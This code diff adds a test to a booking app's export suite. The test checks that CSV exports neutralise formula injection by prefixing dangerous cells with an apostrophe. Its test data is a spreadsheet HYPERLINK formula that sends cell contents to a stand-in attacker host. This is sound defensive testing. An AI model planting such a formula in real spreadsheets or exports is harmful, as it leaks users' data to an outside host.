@@ -237,3 +237,21 @@ describe("export", () => {
     expect((await (exportRoute.GET as Handler)(req, { params: Promise.resolve({}) })).status).toBe(403);
   });
 });
+
+describe("export of hostile text", () => {
+  it("CSV: a cell starting with =, +, -, @, tab or CR is prefixed with ' so a spreadsheet shows it instead of running it (OWASP CSV injection)", async () => {
+    const db = await getDb();
+    const slot = pastWeekdaySlot();
+    const [row] = await db
+      .insert(bookings)
+      .values({ roomId, organizerId: member.id, title: '=HYPERLINK("http://evil.example/?"&A2,"Open")', startTime: slot.start, endTime: slot.end, status: "cancelled" })
+      .returning({ id: bookings.id });
+    try {
+      const text = (await get(exportRoute, `/api/analytics/export?${RANGE}&format=csv`, admin.token)).json as string;
+      const rows = parseCsv(text, { columns: true }) as Record<string, string>[];
+      expect(rows.find((r) => r["Booking ID"] === row.id)?.Title).toBe(`'=HYPERLINK("http://evil.example/?"&A2,"Open")`);
+    } finally {
+      await db.execute(sql`delete from bookings where id = ${row.id}`);
+    }
+  });
+});
